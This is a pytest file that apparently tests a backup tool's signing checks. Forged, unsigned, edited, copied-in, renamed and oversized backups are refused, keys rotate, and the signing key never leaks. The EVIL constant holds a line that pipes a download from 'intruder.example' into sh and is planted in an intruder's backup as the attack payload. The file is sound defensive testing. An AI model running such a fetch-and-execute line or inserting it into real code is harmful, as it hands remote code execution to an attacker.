"""Signed backups on real files (a directory destination): made and restored signed;
refused unsigned, signed by another key, edited, or replaced by an intruder who holds
only the public keys; keys rotated; the signing key never stored, shown or logged."""

from __future__ import annotations

import re
from pathlib import Path

import msgspec
import pytest

from bastion.backup import encryption
from bastion.backup.catalog import entries, fetch_record
from bastion.backup.config import RetentionConfig
from bastion.backup.create import create_backup
from bastion.backup.desk import Desk, open_desk
from bastion.backup.destinations import DirDestination, open_destination
from bastion.backup.manifest import BLOB_SUFFIX, RECORD_SUFFIX, encode_record, sha256_file
from bastion.backup.restore import Restored, restore
from bastion.backup.retention import prune
from bastion.backup.shipping import ship_forever, ship_once, shipped_through
from bastion.backup.signing import UNCHECKED, Signers
from bastion.backup.verify import verify
from bastion.clock import LiveClock, SimClock
from bastion.errors import BackupError, ConfigError, IntegrityError
from bastion.vault.keysource import KEY_FILE_ENV
from bastion.vault.vault import Vault
from kit.backup_desk import (
    CANARY,
    SIGNING_SEEDS,
    BackupDesk,
    dir_destination,
    make_desk,
    secret_forms,
    signing_public,
    signing_toml,
    stored_files,
)
from kit.journal_samples import fills
from kit.vaults import PASSPHRASE

CLOCK = LiveClock()
DESK_KEY = signing_public(SIGNING_SEEDS["desk"])
NEXT_KEY = signing_public(SIGNING_SEEDS["next"])
TRUSTED = Signers([(DESK_KEY, "test")])
EVIL = "import os\nos.system('curl intruder.example | sh')  # runs at the DR site\n"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return tmp_path / "offsite"


@pytest.fixture
def desk(tmp_path: Path, store: Path, monkeypatch: pytest.MonkeyPatch) -> BackupDesk:
    made = make_desk(tmp_path / "desk", dir_destination(store), signing=SIGNING_SEEDS["desk"])
    assert made.vault_key is not None
    monkeypatch.setenv(KEY_FILE_ENV, str(made.vault_key))
    return made


def opened(desk: BackupDesk) -> tuple[Desk, DirDestination]:
    d = open_desk(desk.config, clock=CLOCK)
    destination = open_destination(d.backup, base_dir=d.base_dir, node_id=d.node_id, secrets=None)
    assert isinstance(destination, DirDestination)
    return d, destination


def backup(desk: BackupDesk) -> tuple[DirDestination, str]:
    d, destination = opened(desk)
    return destination, create_backup(d, destination, clock=CLOCK).record.id


def ship(desk: BackupDesk) -> None:
    d, destination = opened(desk)
    after = shipped_through(destination, d.backup.signers())
    ship_once(d, destination, after_seq=after, clock=CLOCK)


def restore_into(
    desk: BackupDesk,
    destination: DirDestination,
    target: Path,
    signers: Signers,
    *,
    backup_id: str = "latest",
) -> Restored:
    return restore(
        destination,
        backup_id,
        target,
        identities=encryption.load_identities(desk.identity),
        signers=signers,
    )


def assert_nothing_restored(target: Path) -> None:
    assert not target.exists()
    assert [p for p in target.parent.iterdir() if p.name.startswith(".bastion-restore")] == []


def set_signing(desk: BackupDesk, seed: str | None, trusted: list[str]) -> None:
    """Rewrite the desk config's signing lines (the vault keeps what it holds)."""
    text = desk.config.read_text()
    text = re.sub(r"signing_key = .*\n|signing_public_keys = .*\n", "", text)
    lines = signing_toml(seed, trusted)
    desk.config.write_text(text.replace("[backup.destination]", f"{lines}\n[backup.destination]"))


def test_when_signed_then_backups_and_segments_restore_and_verify(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """A signed full backup and signed segments: verify and restore accept them."""
    destination, backup_id = backup(desk)
    desk.append(fills(5, ts_ns=2))
    ship(desk)
    records = [fetch_record(destination, e.id, TRUSTED) for e in entries(destination)]
    assert [r.signer for r in records] == [DESK_KEY, DESK_KEY]
    checked = verify(destination, None, identities=None, signers=TRUSTED)
    assert [c.signed for c in checked] == [True, True]
    restored = restore_into(desk, destination, tmp_path / "restored", TRUSTED)
    assert (restored.backup_id, restored.last_seq, len(restored.segments)) == (backup_id, 55, 1)


def test_when_keys_are_configured_then_an_unsigned_backup_is_refused(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """A backup made without the signing key: verify and restore refuse it by name."""
    set_signing(desk, None, [])
    destination, backup_id = backup(desk)
    assert fetch_record(destination, backup_id, UNCHECKED).signature is None
    with pytest.raises(IntegrityError, match=f"backup {backup_id}: its record is not signed"):
        verify(destination, None, identities=None, signers=TRUSTED)
    with pytest.raises(IntegrityError, match=f"backup {backup_id}: its record is not signed"):
        restore_into(desk, destination, tmp_path / "restored", TRUSTED)
    assert_nothing_restored(tmp_path / "restored")


def test_when_signed_by_another_key_then_the_backup_is_refused(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """The vault's key is not the one the verifier trusts: refused, nothing restored."""
    set_signing(desk, SIGNING_SEEDS["desk"], [])  # signs, trusts nothing
    destination, backup_id = backup(desk)
    other = Signers([(NEXT_KEY, "test")])
    with pytest.raises(IntegrityError, match=f"backup {backup_id}: .* not one of the trusted"):
        restore_into(desk, destination, tmp_path / "restored", other)
    assert_nothing_restored(tmp_path / "restored")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("first_seq", 2),
        ("last_seq", 49),
        ("blob_sha256", "00" * 32),
        ("kind", "segment"),
        ("created_ns", 1),
        ("head_hash", "11" * 32),
    ],
)
def test_when_a_field_of_a_stored_record_is_edited_then_restore_refuses_it(
    desk: BackupDesk, tmp_path: Path, field: str, value: object
) -> None:
    """Seq range, blob SHA-256, kind, time, head: edited and resealed, the signature
    fails before the blob is even fetched."""
    destination, backup_id = backup(desk)
    record = fetch_record(destination, backup_id, TRUSTED)
    forged = msgspec.structs.replace(record, **{field: value})
    (destination.root / (backup_id + RECORD_SUFFIX)).write_bytes(encode_record(forged))
    with pytest.raises(IntegrityError, match=f"backup {backup_id}: .*signature does not verify"):
        restore_into(desk, destination, tmp_path / "restored", TRUSTED)
    assert_nothing_restored(tmp_path / "restored")
    with pytest.raises(IntegrityError, match="signature does not verify"):
        verify(destination, backup_id, identities=None, signers=TRUSTED)


def intruder_backup(
    tmp_path: Path,
    store: Path,
    victim: BackupDesk,
    *,
    events: int = 50,
    created_ns: int | None = None,
) -> tuple[str, Path]:
    """A desk an intruder builds with the victim's node id and public recipient and
    its own strategy, backed up (unsigned) to ``store`` at ``created_ns`` (default:
    now); its id and blob."""
    intruder = make_desk(
        tmp_path / "intruder",
        dir_destination(store),
        events=events,
        recipient=victim.recipient,
        keys_dir=tmp_path / "intruder-keys",
    )
    (intruder.root / "strategies" / "idle.py").write_text(EVIL)
    d, destination = opened(intruder)
    clock = LiveClock() if created_ns is None else SimClock(created_ns)
    backup_id = create_backup(d, destination, clock=clock).record.id
    return backup_id, destination.root / (backup_id + BLOB_SUFFIX)


def test_when_an_intruder_stores_a_backup_to_the_same_recipients_then_it_is_refused(
    desk: BackupDesk, tmp_path: Path, store: Path
) -> None:
    """The attack: a whole backup made with the public recipient only. Unchecked, it
    restores the intruder's code; with the desk's key required, nothing is restored."""
    destination, _ = backup(desk)
    forged_id, _ = intruder_backup(tmp_path, store, desk)
    unchecked = restore_into(desk, destination, tmp_path / "unchecked", UNCHECKED)
    assert unchecked.backup_id == forged_id  # the forgery decrypts and is the latest
    assert (tmp_path / "unchecked" / "strategies" / "idle.py").read_text() == EVIL
    target = tmp_path / "restored"
    with pytest.raises(IntegrityError, match=f"backup {forged_id}: its record is not signed"):
        restore_into(desk, destination, target, TRUSTED)
    assert_nothing_restored(target)


def test_when_an_intruder_replaces_a_signed_backups_blob_then_it_is_refused(
    desk: BackupDesk, tmp_path: Path, store: Path
) -> None:
    """The desk's blob swapped for one encrypted to the same recipient, its record's
    size and SHA-256 updated and resealed, the desk's signature kept: refused."""
    destination, backup_id = backup(desk)
    created_ns = fetch_record(destination, backup_id, TRUSTED).created_ns
    elsewhere = tmp_path / "intruder-store"
    forged_id, forged_blob = intruder_backup(tmp_path, elsewhere, desk, created_ns=created_ns)
    assert forged_id == backup_id  # same time, same journal length: same id and manifest
    blob = destination.root / (backup_id + BLOB_SUFFIX)
    blob.write_bytes(forged_blob.read_bytes())
    record = fetch_record(destination, backup_id, TRUSTED)
    tampered = msgspec.structs.replace(
        record, blob_size=blob.stat().st_size, blob_sha256=sha256_file(blob)
    )
    (destination.root / (backup_id + RECORD_SUFFIX)).write_bytes(encode_record(tampered))
    target = tmp_path / "restored"
    with pytest.raises(IntegrityError, match=f"backup {backup_id}: .*signature does not verify"):
        restore_into(desk, destination, target, TRUSTED, backup_id=backup_id)
    assert_nothing_restored(target)
    unchecked = restore_into(desk, destination, target, UNCHECKED, backup_id=backup_id)
    assert (target / "strategies" / "idle.py").read_text() == EVIL  # what it would have run
    assert unchecked.backup_id == backup_id


def test_when_the_key_is_rotated_then_old_and_new_backups_verify_under_both_keys(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """Old key's backups keep verifying while both public keys are listed; a backup
    with a signing key not listed is refused at creation; dropping the old key refuses
    the old backups."""
    destination, old_id = backup(desk)
    vault = Vault.open(desk.root / "vault.bastion", PASSPHRASE, clock=CLOCK)
    vault.set("backup/signing-2", SIGNING_SEEDS["next"])
    set_signing(desk, SIGNING_SEEDS["next"], [DESK_KEY])
    text = desk.config.read_text().replace("secret:backup/signing", "secret:backup/signing-2")
    desk.config.write_text(text)
    with pytest.raises(ConfigError, match=r"its public key ed25519:.* is not in"):
        backup(desk)
    desk.config.write_text(text.replace(f'["{DESK_KEY}"]', f'["{DESK_KEY}", "{NEXT_KEY}"]'))
    _, new_id = backup(desk)
    desk.append(fills(3, ts_ns=4))
    ship(desk)
    both = Signers([(DESK_KEY, "a"), (NEXT_KEY, "b")])
    checked = verify(destination, None, identities=None, signers=both)
    assert [c.id for c in checked][:2] == [old_id, new_id] and len(checked) == 3
    assert fetch_record(destination, old_id, both).signer == DESK_KEY
    assert fetch_record(destination, new_id, both).signer == NEXT_KEY
    restored = restore_into(desk, destination, tmp_path / "restored", both)
    assert restored.backup_id == new_id and len(restored.segments) == 1
    with pytest.raises(IntegrityError, match=f"backup {old_id}: .* not one of the trusted"):
        verify(destination, old_id, identities=None, signers=Signers([(NEXT_KEY, "b")]))


def test_when_public_keys_are_set_without_a_signing_key_then_create_refuses(
    desk: BackupDesk,
) -> None:
    """Backups every verifier would refuse are not made: the config names the fix."""
    set_signing(desk, None, [DESK_KEY])
    with pytest.raises(ConfigError, match=r"key 'backup\.signing_key': not set"):
        backup(desk)


def test_when_the_vault_key_is_malformed_then_create_names_it_and_not_its_value(
    desk: BackupDesk,
) -> None:
    """A signing key that is not 64 hex characters: a config error naming the secret."""
    bad = "not-a-key-" + SIGNING_SEEDS["intruder"][:20]
    Vault.open(desk.root / "vault.bastion", PASSPHRASE, clock=CLOCK).set("backup/signing", bad)
    with pytest.raises(ConfigError) as caught:
        backup(desk)
    assert "key 'backup.signing_key': secret 'backup/signing' is not an Ed25519" in str(
        caught.value
    )
    assert bad not in str(caught.value)


def test_when_a_forged_backup_is_at_the_store_then_prune_list_and_ship_refuse_it(
    desk: BackupDesk, tmp_path: Path, store: Path
) -> None:
    """A forged full backup (dated ahead) would push real ones out of retention, and a
    forged segment far ahead would stop shipping: both refused, nothing deleted."""
    destination, backup_id = backup(desk)
    forged_id, _ = intruder_backup(tmp_path, store, desk, events=80)
    policy = RetentionConfig(hourly=1, daily=0, monthly=0)
    with pytest.raises(IntegrityError, match=f"backup {forged_id}: its record is not signed"):
        prune(destination, policy, signers=TRUSTED)
    assert {e.id for e in entries(destination)} == {backup_id, forged_id}
    with pytest.raises(IntegrityError, match=f"backup {forged_id}: its record is not signed"):
        ship(desk)  # the intruder's full backup is the newest seq at the store


def test_when_signed_backups_are_stored_then_the_signing_key_is_nowhere_in_them(
    desk: BackupDesk, store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Canary: the seed (any form) in no stored byte, record, restored plaintext file,
    log line or error; the canary secret neither."""
    destination, _ = backup(desk)
    desk.append(fills(2, ts_ns=3))
    ship(desk)
    restored = restore_into(desk, destination, tmp_path / "restored", TRUSTED)
    set_signing(desk, None, [NEXT_KEY])
    errors = []
    attempts = (
        lambda: backup(desk),
        lambda: verify(destination, None, identities=None, signers=Signers([(NEXT_KEY, "x")])),
    )
    for attempt in attempts:
        try:
            attempt()
        except (ConfigError, IntegrityError) as error:
            errors.append(str(error))
    assert len(errors) == 2
    captured = capsys.readouterr()
    seed = desk.signing_seed
    assert seed is not None
    files = stored_files(store) + stored_files(restored.target)
    assert files
    for form in [*secret_forms(seed), bytes.fromhex(seed)]:
        for path in files:
            assert form not in path.read_bytes(), path
        for text in [captured.out, captured.err, *errors]:
            assert form.decode(errors="replace") not in text
    for path in stored_files(store):
        assert CANARY.encode() not in path.read_bytes()


def test_when_the_drill_meets_a_forged_backup_then_it_restores_nothing(
    desk: BackupDesk, tmp_path: Path, store: Path
) -> None:
    """bastion dr drill restores through the same check: the intruder's latest backup
    is refused and the scratch location stays empty."""
    from bastion.backup.config import DrConfig
    from bastion.backup.drill import run_drill

    destination, _ = backup(desk)
    forged_id, _ = intruder_backup(tmp_path, store, desk)
    with pytest.raises(IntegrityError, match=f"backup {forged_id}: its record is not signed"):
        run_drill(
            destination,
            identities=encryption.load_identities(desk.identity),
            signers=TRUSTED,
            scratch=tmp_path / "scratch",
            dr=DrConfig(),
            clock=CLOCK,
        )
    assert_nothing_restored(tmp_path / "scratch" / "desk")


def other_desk(tmp_path: Path, desk: BackupDesk, *, events: int) -> BackupDesk:
    """Another desk (node ``desk-2``) that signs with the same key and encrypts to the
    same recipient: its backups are genuine, only not this desk's."""
    return make_desk(
        tmp_path / "other",
        dir_destination(tmp_path / "other-store"),
        events=events,
        node_id="desk-2",
        signing=SIGNING_SEEDS["desk"],
        recipient=desk.recipient,
        keys_dir=tmp_path / "other-keys",
    )


def copy_backups(source: DirDestination, into: DirDestination) -> list[str]:
    """Every file of ``source`` copied into ``into`` (an insider with write access to
    the store); the ids copied."""
    copied = []
    for path in sorted(source.root.iterdir()):
        (into.root / path.name).write_bytes(path.read_bytes())
        if path.name.endswith(RECORD_SUFFIX):
            copied.append(path.name.removesuffix(RECORD_SUFFIX))
    return copied


def test_when_another_desks_signed_full_backup_is_copied_in_then_no_command_takes_it(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """The other desk's full backup, newer and further in seq, signed by the shared key:
    restore (and the drill) would restore the other desk as this one, prune would keep
    it as the newest and delete this desk's, ship would skip every event up to its seq.
    Each refuses it by its node, and nothing is deleted or restored."""
    from bastion.backup.config import DrConfig
    from bastion.backup.drill import run_drill

    destination, own_id = backup(desk)
    other = other_desk(tmp_path, desk, events=80)
    other_store, _ = backup(other)
    (other_id,) = copy_backups(other_store, destination)
    assert fetch_record(destination, other_id, TRUSTED).node_id == "desk-2"  # genuine
    assert restore_into(desk, destination, tmp_path / "anyone", TRUSTED).backup_id == other_id

    refused = f"backup {other_id}: .*node 'desk-2', not 'desk-1'"
    target = tmp_path / "restored"
    with pytest.raises(IntegrityError, match=refused):
        restore(
            destination,
            "latest",
            target,
            identities=encryption.load_identities(desk.identity),
            signers=TRUSTED,
            node_id="desk-1",
        )
    assert_nothing_restored(target)
    with pytest.raises(IntegrityError, match=refused):
        verify(destination, None, identities=None, signers=TRUSTED, node_id="desk-1")
    policy = RetentionConfig(hourly=1, daily=0, monthly=0)
    with pytest.raises(IntegrityError, match=refused):
        prune(destination, policy, signers=TRUSTED, node_id="desk-1")
    assert {e.id for e in entries(destination)} == {own_id, other_id}
    with pytest.raises(IntegrityError, match=refused):
        shipped_through(destination, TRUSTED, node_id="desk-1")
    d, _ = opened(desk)
    with pytest.raises(IntegrityError, match=refused):  # the node's shipping: its desk's node
        ship_forever(d, destination, interval_s=0.0, clock=CLOCK, rounds=1)
    with pytest.raises(IntegrityError, match=refused):
        run_drill(
            destination,
            identities=encryption.load_identities(desk.identity),
            signers=TRUSTED,
            scratch=tmp_path / "scratch",
            dr=DrConfig(),
            clock=CLOCK,
            node_id="desk-1",
        )
    assert_nothing_restored(tmp_path / "scratch" / "desk")


def test_when_another_desks_signed_segment_is_copied_in_then_restore_refuses_it(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """A segment of the other desk (same key) whose rows this desk's own segment already
    covers: they would be skipped, and what else it carries (its FIX sessions, its runs)
    applied to this desk. The restore refuses it by its node, whatever its rows."""
    destination, _ = backup(desk)
    desk.append(fills(5, ts_ns=2))
    ship(desk)  # 51..55
    other = other_desk(tmp_path, desk, events=50)
    other.append(fills(4, ts_ns=3))
    d, other_store = opened(other)
    ship_once(d, other_store, after_seq=51, clock=CLOCK)  # 52..54, inside 51..55
    (foreign,) = copy_backups(other_store, destination)
    assert fetch_record(destination, foreign, TRUSTED).node_id == "desk-2"
    target = tmp_path / "restored"
    with pytest.raises(IntegrityError, match=f"backup {foreign}: .*node 'desk-2', not 'desk-1'"):
        restore_into(desk, destination, target, TRUSTED)
    assert_nothing_restored(target)
    (destination.root / (foreign + RECORD_SUFFIX)).unlink()
    restored = restore_into(desk, destination, target, TRUSTED)
    assert restored.last_seq == 55 and len(restored.segments) == 1


def test_when_a_record_or_blob_is_huge_then_it_is_refused_before_it_is_read_whole(
    desk: BackupDesk, tmp_path: Path
) -> None:
    """A record of many megabytes (any command reads records) and a blob far larger
    than its signed size: refused at the bound, never held in memory or on disk whole."""
    destination, backup_id = backup(desk)
    record_file = destination.root / (backup_id + RECORD_SUFFIX)
    genuine = record_file.read_bytes()
    record_file.write_bytes(genuine + b" " * (16 << 20))  # still a valid record, 16 MiB
    with pytest.raises(IntegrityError, match=rf"backup record {backup_id}.json: .* over"):
        fetch_record(destination, backup_id, TRUSTED)
    record_file.write_bytes(genuine)
    blob = destination.root / (backup_id + BLOB_SUFFIX)
    size = blob.stat().st_size
    with blob.open("ab") as f:
        f.truncate(size + (256 << 20))  # sparse: 256 MiB more
    target = tmp_path / "restored"
    with pytest.raises(BackupError, match=f"backup {backup_id}: the blob is over its record's"):
        restore_into(desk, destination, target, TRUSTED)
    assert_nothing_restored(target)


_ARABIC_INDIC = str.maketrans("0123456789", "".join(chr(0x660 + d) for d in range(10)))


@pytest.mark.parametrize(
    "name",
    [
        "full-20991231T235959999Z-000000000050",  # the same backup, dated ahead: "latest"
        "full-20991231T235959999Z-000000999999",  # ... and claiming far more journal
        "seg-000000000051-000000999999-20991231T235959999Z",  # a segment far ahead
        # digits Python's \d also matches: sorted after every ASCII-dated name
        "full-20991231T235959999Z-000000000050".translate(_ARABIC_INDIC),
    ],
)
def test_when_a_signed_backup_is_stored_again_under_another_name_then_it_is_refused(
    desk: BackupDesk, tmp_path: Path, name: str
) -> None:
    """The desk's own signed record and blob, copied under a newer name: listed by its
    name, refused by restore (it would be "latest", or a segment to apply), prune and
    ship (when it claims more journal); nothing deleted."""
    destination, backup_id = backup(desk)
    for suffix in (RECORD_SUFFIX, BLOB_SUFFIX):
        (destination.root / (name + suffix)).write_bytes(
            (destination.root / (backup_id + suffix)).read_bytes()
        )
    assert name in {e.id for e in entries(destination)}
    refused = f"backup record {name}: names another backup"
    with pytest.raises(BackupError, match=refused):
        fetch_record(destination, name, TRUSTED)
    target = tmp_path / "restored"
    with pytest.raises(BackupError, match=refused):  # the newest full, or a segment after it
        restore_into(desk, destination, target, TRUSTED)
    assert_nothing_restored(target)
    if name.startswith("full"):
        with pytest.raises(BackupError, match=refused):
            prune(destination, RetentionConfig(hourly=1, daily=0, monthly=0), signers=TRUSTED)
        restored = restore_into(desk, destination, target, TRUSTED, backup_id=backup_id)
        assert restored.last_seq == 50
    if "999999" in name:
        with pytest.raises(BackupError, match=refused):
            shipped_through(destination, TRUSTED, node_id="desk-1")
    assert backup_id in {e.id for e in entries(destination)}
